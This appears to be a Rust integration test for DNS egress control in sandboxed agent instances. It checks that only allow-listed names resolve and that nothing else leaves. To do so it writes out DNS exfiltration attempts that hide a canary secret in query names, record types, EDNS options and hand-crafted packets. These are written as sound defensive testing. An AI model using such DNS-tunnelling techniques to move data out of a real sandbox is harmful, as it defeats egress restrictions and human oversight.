//! Names inside an instance: what its stub asks the host's resolvers, and what it takes from them.

use std::time::Duration;

use instances_lab::{Agent, Machine, fleet, unavailable};
use serde_json::Value;

use crate::view::{SOON, done, number, sh, wait_until_served};

const SPEC: &str = r#"
[instances.open]
directory = "/srv/open"
listen.port = 4107

[instances.listed]
directory = "/srv/listed"
listen.port = 4108
[instances.listed.network.outbound]
policy = "allow-list"
allowCidrs = ["1.1.1.0/24", "2606:4700::/32"]
[instances.listed.network.dns]
allowNames = ["good.example.org", "*.deep.example.org", "mixed.example.org", "rebind.example.org", "large.example.org"]

[instances.closed]
directory = "/srv/closed"
listen.port = 4109
[instances.closed.network.outbound]
policy = "none"
"#;

const INSTANCES: [&str; 3] = ["open", "listed", "closed"];
const RESOLVER: &str = include_str!("resolver.py");
/// What an idle server asks for by itself.
const OWN: [&str; 2] = ["npmjs.org", "models.dev"];
const LOG: &str = "/run/questions";
/// What must not leave an instance that may not ask for it.
const SECRET: &str = "secretcanary";

/// Gives a machine resolvers, of which the first is in force.
pub(crate) fn resolvers(machine: &Machine) {
    machine.put("/usr/local/sbin/resolver.py", RESOLVER, 0o644).unwrap();
    let start = format!(
        "systemd-run -q --unit=resolver python3 /usr/local/sbin/resolver.py {LOG} 127.0.0.1 127.0.0.2
         echo 'nameserver 127.0.0.1' >/etc/resolv.conf"
    );
    sh(machine, &start);
    let up = "dig +short @127.0.0.2 good.example.org | grep -q 1.1.1.1";
    machine
        .wait_until("there are resolvers", SOON, |machine| Ok(machine.sh(up)?.success()))
        .unwrap();
}

/// The questions that came to resolvers since the last look.
fn questions(machine: &Machine) -> Vec<Value> {
    let text = sh(machine, &format!("touch {LOG}; cat {LOG}; truncate -s 0 {LOG}"));
    let all = text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    // The server's own.
    all.filter(|one| {
        !OWN.iter().any(|own| one["name"].as_str().is_some_and(|name| name.ends_with(own)))
    })
    .collect()
}

/// Has the agent's shell run a script; as a command it would be expanded twice.
fn shell(machine: &Machine, instance: &str, script: &str) -> String {
    let file = format!("/srv/{instance}/script.sh");
    machine.put(&file, script, 0o644).unwrap();
    let said = Agent::connect(machine, instance).unwrap().shell(&format!("bash {file}")).unwrap();
    said.trim().to_owned()
}

fn sorted(text: &str) -> Vec<&str> {
    let mut words: Vec<&str> = text.split_whitespace().collect();
    words.sort_unstable();
    words.dedup();
    words
}

#[test]
fn names_are_resolved_as_far_as_the_policy_goes() {
    if unavailable() {
        return;
    }
    let projects = ["/srv/open", "/srv/listed", "/srv/closed"];
    let machine = fleet::boot("dns", SPEC, &projects).unwrap();
    resolvers(&machine);
    let _internet = instances_lab::Internet::attach(&machine, true).unwrap();
    done(&machine, "apply");
    for instance in INSTANCES {
        wait_until_served(&machine, instance, SOON);
    }
    every_program_resolves(&machine);
    only_listed_names_reach_a_resolver(&machine);
    addresses_that_are_never_allowed_are_taken_out(&machine);
    none_has_no_names(&machine);
    the_stub_comes_back(&machine);
    the_hosts_list_is_followed(&machine);
}

fn every_program_resolves(machine: &Machine) {
    for instance in ["open", "listed"] {
        let both = ["1.1.1.1", "2606:4700::1111"];
        let getent = shell(machine, instance, "getent ahosts good.example.org | cut -d' ' -f1");
        assert_eq!(sorted(&getent), both, "{instance}");
        let python = "python3 -c 'import socket; print(*{one[4][0] for one in socket.getaddrinfo(\"good.example.org\", 443)})'";
        assert_eq!(sorted(&shell(machine, instance, python)), both, "{instance}");
        for over in ["", "+tcp", "+tcp +keepopen", "+noedns", "+bufsize=512"] {
            let dig = shell(
                machine,
                instance,
                &format!("dig +short {over} good.example.org A good.example.org AAAA"),
            );
            assert_eq!(sorted(&dig), both, "{instance} {over}");
        }
        // Too long for a datagram from the resolver, and for one to the agent unless it takes long ones.
        for over in ["", "+tcp", "+noedns", "+bufsize=4096"] {
            let dig = shell(machine, instance, &format!("dig +short {over} large.example.org"));
            assert_eq!(sorted(&dig).len(), 100, "{instance} {over}: {dig}");
        }
        let missing = shell(
            machine,
            instance,
            "dig a.deep.example.org AAAA b.deep.example.org | grep -o 'status: [A-Z]*'",
        );
        assert_eq!(sorted(&missing), ["NOERROR", "NXDOMAIN", "status:"], "{instance}");
        assert_eq!(sorted(&shell(machine, instance, "dig +short localhost")), ["127.0.0.1"]);
    }
    let asked = questions(machine);
    assert!(
        asked.iter().any(|one| one["over"] == "tcp")
            && asked.iter().any(|one| one["over"] == "udp")
    );
    let other = shell(
        machine,
        "open",
        "dig +short other.example.net; dig -x 8.8.8.8 | grep -o 'status: [A-Z]*'",
    );
    assert_eq!(sorted(&other), ["8.8.8.8", "NXDOMAIN", "status:"]);
    assert_eq!(questions(machine).len(), 2);
}

/// A question is itself a way out, in each of its parts.
fn only_listed_names_reach_a_resolver(machine: &Machine) {
    questions(machine);
    let refused = [
        "other.example.net",
        &format!("{SECRET}.good.example.org"),
        &format!("{SECRET}.example.org"),
        &format!("good.example.org.{SECRET}"),
        &format!("xgood.example.org {SECRET}good.example.org"),
        "deep.example.org",
        "example.org org .",
        &format!("-t TXT {SECRET}.example.com"),
        &format!("-t NS {SECRET}.example.com"),
        &format!("-t TYPE65280 {SECRET}.example.com"),
        &format!("-c CH -t TXT {SECRET}.bind"),
        &format!("-t ANY {SECRET}.example.com"),
        "-x 8.8.8.8",
    ];
    for name in refused {
        for over in ["", "+tcp"] {
            let said = shell(
                machine,
                "listed",
                &format!("dig {over} +tries=1 {name} | grep -o 'status: [A-Z]*'"),
            );
            let good = sorted(&said)
                .iter()
                .all(|word| ["status:", "REFUSED", "NOTIMP", "FORMERR"].contains(word));
            assert!(good && !said.is_empty(), "{name} {over}: {said}");
        }
    }
    let gone = shell(machine, "listed", "getent hosts other.example.net; echo $?");
    assert_eq!(gone, "2");
    assert_eq!(questions(machine), [Value::Null; 0], "a refused name reached a resolver");
    // With a listed name, but not with anything else that the agent puts into its message.
    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
    let channels = format!(
        "for one in '+ednsopt=65001:{hex}' '+ednsopt=10:{hex}' '+subnet=99.101.99.0/24' '+cookie={}' '+nsid' '+ednsflags=0x1234'; do
           dig +tries=1 $one good.example.org >/dev/null; dig +tcp +tries=1 $one good.example.org >/dev/null; done
         dig +short GoOd.eXaMpLe.OrG",
        hex.get(..16).unwrap()
    );
    let said = shell(machine, "listed", &channels);
    assert_eq!(said, "1.1.1.1");
    // Two questions, a second message behind the first, records beside the question.
    let crafted = format!(
        "python3 - <<'END'
import socket, struct
def name(text): return b''.join(bytes([len(part)]) + part.encode() for part in text.split('.')) + b'\\0'
good, bad = (name(one) + struct.pack('!HH', 1, 1) for one in ('good.example.org', '{SECRET}.example.com'))
record = name('{SECRET}.example.com') + struct.pack('!HHIH', 16, 1, 0, 13) + b'\\x0c{SECRET}'
def head(*counts, flags=0x100): return struct.pack('!HHHHHH', 0x7365, flags, *counts)
for message in (head(2, 0, 0, 0) + good + bad, head(1, 0, 0, 0) + good + bad, head(1, 1, 0, 0) + good + record,
                head(1, 0, 1, 0) + good + record, head(1, 0, 0, 1) + good + record, head(1, 0, 0, 0, flags=0x2900) + good,
                head(1, 0, 0, 0, flags=0xffff) + good, head(1, 0, 0, 0, flags=0x17f) + good):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.3)
        one.sendto(message, ('127.0.0.53', 53))
        try: one.recv(4096)
        except OSError: pass
    with socket.create_connection(('127.0.0.53', 53)) as one:
        one.settimeout(0.3)
        one.sendall(struct.pack('!H', len(message)) + message)
        try: one.recv(4096)
        except OSError: pass
END"
    );
    shell(machine, "listed", &crafted);
    let asked = questions(machine);
    assert!(asked.len() > 10, "{asked:?}");
    for one in asked {
        let raw = one["raw"].as_str().unwrap();
        assert_eq!(one["name"], "good.example.org", "its letters are a channel, too: {one}");
        assert!(!raw.contains(hex.get(..16).unwrap()) && !raw.contains("63656300"), "{one}");
        assert_eq!(raw.get(4..8), Some("0100"), "flags are the stub's own: {one}");
    }
}

fn addresses_that_are_never_allowed_are_taken_out(machine: &Machine) {
    for instance in ["open", "listed"] {
        for over in ["", "+tcp"] {
            let dig = format!("dig +short {over} rebind.example.org A rebind.example.org AAAA");
            assert_eq!(shell(machine, instance, &dig), "", "{instance} {over}");
            let dig = format!("dig +short {over} mixed.example.org A mixed.example.org AAAA");
            assert_eq!(
                sorted(&shell(machine, instance, &dig)),
                ["1.1.1.1", "2606:4700::1111"],
                "{instance}"
            );
        }
    }
    // The resolver does say so.
    let control =
        sh(machine, "dig +short @127.0.0.1 rebind.example.org A rebind.example.org AAAA | wc -l");
    assert_eq!(control, "15");
    // Allowed as names, not as addresses: under the list, other.example.net's would be taken out as well.
    let names = machine.get("/run/opencode-instances/open/dns/names").unwrap();
    assert!(names.contains("1.1.1.1 good.example.org") && !names.contains("10.1.2.3"), "{names}");
}

fn none_has_no_names(machine: &Machine) {
    questions(machine);
    let said = shell(
        machine,
        "closed",
        "getent hosts good.example.org; echo $?; dig +tries=1 +timeout=2 good.example.org >/dev/null; echo $?
         for at in 127.0.0.1 9.9.0.2 1.1.1.1; do dig +tries=1 +timeout=1 @$at good.example.org >/dev/null; echo $?; done",
    );
    assert_eq!(said, "2\n9\n9\n9\n9");
    assert_eq!(questions(machine), [Value::Null; 0]);
}

fn the_stub_comes_back(machine: &Machine) {
    for _ in 0..3 {
        let before = number(machine, "opencode-dns@open", "MainPID");
        sh(machine, "systemctl kill -s KILL opencode-dns@open");
        let said = shell(
            machine,
            "open",
            "getent hosts good.example.org | cut -d' ' -f1; dig +short +tcp good.example.org",
        );
        assert!(said.contains("2606:4700::1111") && said.contains("1.1.1.1"), "{said}");
        assert_ne!(number(machine, "opencode-dns@open", "MainPID"), before);
    }
}

/// Programs write such a list anew and rename it, and so it is another file.
fn the_hosts_list_is_followed(machine: &Machine) {
    for (now, script) in [
        ("127.0.0.2", "echo 'nameserver 127.0.0.2' >/etc/resolv.conf"),
        (
            "127.0.0.1",
            "echo 'nameserver 127.0.0.1' >/etc/resolv.new; mv /etc/resolv.new /etc/resolv.conf",
        ),
        (
            "127.0.0.2",
            "mkdir -p /run/other; echo 'nameserver 127.0.0.2' >/run/other/list; ln -sfT /run/other/list /etc/resolv.conf",
        ),
    ] {
        sh(machine, script);
        let patience = Duration::from_secs(20);
        let followed =
            machine.wait_until(&format!("{now} is asked, after {script}"), patience, |machine| {
                questions(machine);
                let said = shell(machine, "open", "dig +short good.example.org");
                let asked = questions(machine);
                Ok(said == "1.1.1.1" && asked.iter().all(|one| one["resolver"] == now))
            });
        followed.unwrap();
    }
}
